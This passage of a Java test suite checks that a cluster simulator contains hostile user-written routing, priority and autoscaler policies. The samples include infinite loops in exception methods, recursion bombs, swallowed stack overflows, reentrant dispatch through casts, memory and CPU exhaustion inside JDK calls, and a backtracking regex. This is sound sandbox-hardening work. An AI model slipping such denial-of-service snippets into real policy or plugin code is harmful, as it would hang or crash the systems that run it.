                                public String getMessage() {
                                    while (true) { }
                                }
                            };
                        }""")),
                Arguments.of("throws an exception whose getMessage() throws", router("""
                        public void route(ClusterView c, Dispatch d) {
                            throw new IllegalStateException() {
                                @Override
                                public String getMessage() {
                                    throw new IllegalArgumentException("thrown while the host describes the failure");
                                }
                            };
                        }""")),
                Arguments.of("sneaks a checked exception with a looping getMessage() out of route()", router("""
                        static final class Boom extends Exception {
                            @Override
                            public String getMessage() {
                                while (true) { }
                            }
                        }

                        @SuppressWarnings("unchecked")
                        <E extends Exception> void sneaky(Exception e) throws E {
                            throw (E) e;
                        }

                        public void route(ClusterView c, Dispatch d) {
                            this.<RuntimeException>sneaky(new Boom());
                        }""")),
                Arguments.of("fails its constructor with an exception whose toString() loops forever", router("""
                        public Hostile() {
                            throw new RuntimeException() {
                                @Override
                                public String toString() {
                                    while (true) { }
                                }
                            };
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")));
    }

    @ParameterizedTest(name = "a policy that {0} is contained")
    @MethodSource("exceptionsWithHostileMethods")
    void aPolicyExceptionWithHostileMethodsIsStillContained(String spec, String source) {
        assertThat(outcome(source, BUDGET)).isInstanceOfAny(PolicyFailure.class, PolicyRejected.class);
    }

    @ParameterizedTest(name = "a policy whose static initializer {0} is rejected")
    @MethodSource("hostileStaticInitializers")
    void aStaticInitializerThatOverrunsIsRejected(String spec, String source) {
        assertThat(outcome(source, BUDGET)).isInstanceOfAny(PolicyRejected.class, PolicyFailure.class);
    }

    static Stream<Arguments> hostileStaticInitializers() {
        return Stream.of(
                Arguments.of("loops forever", router("""
                        static final int X;

                        static {
                            int i = 0;
                            while (i >= 0) { i = i | 1; }
                            X = i;
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")),
                Arguments.of("recurses without end", router("""
                        static final int X = depth(0);

                        static int depth(int n) {
                            return depth(n + 1) + 1;
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")));
    }

    @Test
    void aBatchPriorityCannotDispatchRequestsReentrantly() {
        String source = batchPriority("""
                boolean inside;

                public int priority(RequestView r, ClusterView c) {
                    if (!inside) {
                        inside = true;
                        try {
                            ((Dispatch) c).send(r, c.replicas().get(1));
                        } finally {
                            inside = false;
                        }
                    }
                    return 0;
                }""");
        PolicySource policy = PolicySource.compile("Hostile.java", source, BUDGET);
        Scenario s = scenario(TIGHT);
        ClusterConfig config = Experiment.engineConfig(s).withPriorityScheduling();
        // the host checks after every routing call that no request sits on two replicas, so the
        // corruption stops this test at once instead of running the simulator out of memory
        Router llq = BuiltinRouters.create("llq");
        Router checked = (cluster, dispatch) -> {
            llq.route(cluster, dispatch);
            Set<Long> placed = new HashSet<>();
            for (ReplicaView replica : cluster.replicas()) {
                Stream.concat(replica.waiting().stream(), replica.running().stream()).forEach(r ->
                        assertThat(placed.add(r.id())).as("request %d is on two replicas", r.id()).isTrue());
            }
        };
        assertThat(catchThrowable(() -> run(s, config, checked, policy.newBatchPriority(Map.of()), null)))
                .isInstanceOf(PolicyFailure.class)
                .hasMessageContaining("batch priority failed at t=");
    }

    @Test
    void anAutoscalerCannotDispatchRequests() {
        String source = autoscaler("""
                final Set<Long> sent = new LinkedHashSet<>();

                public int desiredReplicas(AutoscalerView v) {
                    ClusterView c = (ClusterView) v;
                    for (RequestView r : c.queue()) {
                        if (sent.add(r.id())) { ((Dispatch) v).send(r, c.replicas().get(0)); }
                    }
                    return 2;
                }""");
        PolicySource policy = PolicySource.compile("Hostile.java", source, BUDGET);
        Scenario s = scenario(AUTOSCALING);
        Router holdsEverything = (cluster, dispatch) -> { };
        SimulationResult[] result = new SimulationResult[1];
        Throwable thrown = catchThrowable(() -> result[0] = run(s, Experiment.engineConfig(s), holdsEverything, null,
                policy.newAutoscaler(Map.of())));
        assertThat(result[0]).as("a run whose requests the autoscaler routed").isNull();
        assertThat(thrown).isInstanceOf(PolicyFailure.class).hasMessageContaining("autoscaler failed at t=");
    }

    @Test
    void aPolicyCannotSwallowAStackOverflowThatInterruptedTheSimulator() {
        String source = router("""
                int tries;

                void deep(Dispatch d, RequestView r, ReplicaView replica) {
                    try {
                        deep(d, r, replica);
                    } finally {
                        if (tries++ < 200) {
                            try {
                                d.send(r, replica);
                            } catch (RuntimeException e) {
                            }
                        }
                    }
                }

                public void route(ClusterView c, Dispatch d) {
                    for (RequestView r : c.queue()) {
                        tries = 0;
                        try {
                            deep(d, r, c.replicas().get(0));
                        } finally {
                            continue;
                        }
                    }
                }""");
        PolicySource policy = PolicySource.compile("Hostile.java", source, Budget.DEFAULT);
        SimulationResult[] result = new SimulationResult[1];
        Throwable thrown = catchThrowable(() -> result[0] = simulate(policy));
        if (result[0] != null) {
            assertThat(result[0].requests()).as("requests of a run in which a StackOverflowError was swallowed")
                    .allMatch(r -> r.state() == Request.State.DONE);
        }
        assertThat(thrown).isInstanceOf(PolicyFailure.class).hasMessageContaining("recursed too deeply");
    }

    @Test
    void theTryFinallyRecursionBombIsStoppedWithinItsDeadline() {
        String source = router("""
                void bomb() {
                    try {
                        bomb();
                    } finally {
                        bomb();
                    }
                }

                public void route(ClusterView c, Dispatch d) {
                    bomb();
                }""");
        Throwable thrown = assertTimeoutPreemptively(Duration.ofSeconds(3), () -> outcome(source, BUDGET));
        assertThat(thrown).isInstanceOf(PolicyFailure.class).message().containsAnyOf("budget", "recursed too deeply");
    }

    static Stream<Arguments> allocationsInsideTheJdk() {
        return Stream.of(
                Arguments.of("Arrays.copyOf(new long[1], 10_000_000)", "long[] big = Arrays.copyOf(new long[1], 10_000_000);"),
                Arguments.of("new ArrayList<>(10_000_000)", "List<Object> big = new ArrayList<>(10_000_000);"),
                Arguments.of("\"x\".repeat(10_000_000)", "String big = \"x\".repeat(10_000_000);"),
                Arguments.of("new BitSet(Integer.MAX_VALUE)", "BitSet big = new BitSet(Integer.MAX_VALUE);"));
    }

    @ParameterizedTest(name = "allocating with {0} counts against the allocation budget")
    @MethodSource("allocationsInsideTheJdk")
    void allocationsTheJdkMakesForAPolicyCountAgainstItsBudget(String spec, String statement) {
        Budget tinyCells = new Budget(2_000_000L, 100_000L, 1_000_000_000L);
        String source = router("public void route(ClusterView c, Dispatch d) {\n    " + statement + "\n    " + SEND_ALL
                + "\n}");
        assertThat(outcome(source, tinyCells)).as("what a policy allocating with %s threw", spec).isInstanceOf(PolicyFailure.class)
                .hasMessageContaining("allocation budget exceeded");
    }

    static Stream<Arguments> workInsideTheJdk() {
        return Stream.of(
                Arguments.of("LongStream.range(0, 3_000_000_000L).sum()",
                        "long spent = java.util.stream.LongStream.range(0, 3_000_000_000L).sum();"),
                Arguments.of("c.random().longs(3_000_000_000L).sum()", "long spent = c.random().longs(3_000_000_000L).sum();"),
                Arguments.of("a catastrophically backtracking regular expression",
                        "boolean spent = \"a\".repeat(26).concat(\"!\").matches(\"(.*a){12}b\");"));
    }

    @ParameterizedTest(name = "unbounded work inside the JDK is refused: {0}")
    @MethodSource("workInsideTheJdk")
    void unboundedWorkInsideTheJdkIsRefusedBeforeItRuns(String spec, String statement) {
        String source = router("boolean spentOnce;\n\npublic void route(ClusterView c, Dispatch d) {\n"
                + "    if (!spentOnce) {\n        spentOnce = true;\n        " + statement + "\n    }\n    " + SEND_ALL + "\n}");
        assertThat(outcome(source, BUDGET)).as("what a policy spending its time in %s threw", spec)
                .isInstanceOf(PolicyRejected.class)
                .satisfies(t -> assertThat(((PolicyRejected) t).diagnostics()).anySatisfy(d ->
                        assertThat(d.message()).containsAnyOf("outside the policy's step budget", "backtrack")));
    }

    @Test
    void aParallelStreamBuiltWithStreamSupportIsRejected() {
        String source = router("""
                int counter;

                public void route(ClusterView c, Dispatch d) {
                    java.util.stream.StreamSupport
                            .intStream(java.util.stream.IntStream.range(0, 1_000_000).spliterator(), true)
                            .forEach(i -> counter++);
                }""");
        PolicyRejected rejected = rejection(() -> PolicySource.compile("Hostile.java", source, BUDGET));
        assertThat(rejected.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains("parallel"));
    }

    static Stream<Arguments> nondeterministicPolicies() {
        return Stream.of(
                Arguments.of("picks replicas by identity hash code", router("""
                        public void route(ClusterView c, Dispatch d) {
                            for (RequestView r : c.queue()) {
                                d.send(r, c.replicas().get(Math.floorMod(new Object().hashCode(), c.replicas().size())));
                            }
                        }""")),
                Arguments.of("shuffles with Collections.shuffle's hidden unseeded Random", router("""
                        public void route(ClusterView c, Dispatch d) {
                            List<Integer> order = new ArrayList<>(List.of(0, 1));
                            Collections.shuffle(order);
                            for (RequestView r : c.queue()) { d.send(r, c.replicas().get(order.get(0))); }
                        }""")),
                Arguments.of("remembers earlier runs in the JVM-wide String.intern pool", router("""
                        public void route(ClusterView c, Dispatch d) {
                            String mark = new StringBuilder("glia-hostile-").append((long) c.now()).toString();
                            int k = mark.intern() == mark ? 0 : 1;
                            for (RequestView r : c.queue()) { d.send(r, c.replicas().get(k)); }
                        }""")));
    }

    @ParameterizedTest(name = "a policy that {0} is rejected or deterministic")
    @MethodSource("nondeterministicPolicies")
    void aPolicyGivesTheSameResultsForTheSameSeedOrIsRejected(String spec, String source) {
        PolicySource policy;
        try {
            policy = PolicySource.compile("Hostile.java", source, BUDGET);
        } catch (PolicyRejected rejected) {
            return;
        }
        Scenario s = scenario(TIGHT);
        ClusterConfig config = Experiment.engineConfig(s);
        assertThat(deterministicOutcome(s, config, policy)).isEqualTo(deterministicOutcome(s, config, policy));
    }

    /** The request metrics of a run, or the failure that stopped it: either must repeat byte for byte. */
    static String deterministicOutcome(Scenario s, ClusterConfig config, PolicySource policy) {
        try {
            return metrics(run(s, config, policy.newRouter(Map.of()), null, null), config);
        } catch (PolicyFailure failure) {
            return "failed: " + failure.getMessage();
        }
    }

    // ---- helpers ----------------------------------------------------------------------------------

    /** What compiling threw, which must be a rejection. */
    static PolicyRejected rejection(org.assertj.core.api.ThrowableAssert.ThrowingCallable compile) {
        Throwable t = catchThrowable(compile);
        assertThat(t).as("what compiling the policy threw").isInstanceOf(PolicyRejected.class);
        return (PolicyRejected) t;
    }

    static PolicySource compiled(String source) {
        return COMPILED.computeIfAbsent(source, src -> PolicySource.compile("Hostile.java", src, BUDGET));
    }

    /** What compiling and running a policy threw, or null if the run completed. */
    static Throwable outcome(String source, Budget budget) {
        return catchThrowable(() -> simulate(PolicySource.compile("Hostile.java", source, budget)));
    }

    static String component(Role role) {
        return switch (role) {
            case ROUTER -> "router";
            case BATCH_PRIORITY -> "batch priority";
            case AUTOSCALER -> "autoscaler";
        };
    }

    static Scenario scenario(String yaml) {
        return ScenarioLoader.complete(ScenarioLoader.parse(yaml, "test"), "test", Path.of(""));
    }

    /** Runs the policy in its role; the other roles are llq routing and vLLM's FCFS, without autoscaling. */
    static SimulationResult simulate(PolicySource policy) {
        Scenario s = scenario(policy.kind() == PolicySource.Kind.AUTOSCALER ? AUTOSCALING : TIGHT);
        ClusterConfig config = Experiment.engineConfig(s);
        return switch (policy.kind()) {
            case ROUTER -> run(s, config, policy.newRouter(Map.of()), null, null);
            case BATCH_PRIORITY -> run(s, config.withPriorityScheduling(), BuiltinRouters.create("llq"),
                    policy.newBatchPriority(Map.of()), null);
            case AUTOSCALER -> run(s, config, BuiltinRouters.create("llq"), null, policy.newAutoscaler(Map.of()));
        };
    }

    static SimulationResult run(Scenario s, ClusterConfig config, Router router, BatchPriority priority,
                                Autoscaler autoscaler) {
        return new Simulation(config, WorkloadFactory.build(s, SEED), router, priority, autoscaler, SEED).run();
    }


    static String llqMetrics(Scenario s, ClusterConfig config) {
        return metrics(run(s, config, BuiltinRouters.create("llq"), null, null), config);
    }

    static String metrics(SimulationResult result, ClusterConfig config) {
        return RunWriter.requestMetrics(result, config.model(), config.prefillChunk());
    }
}
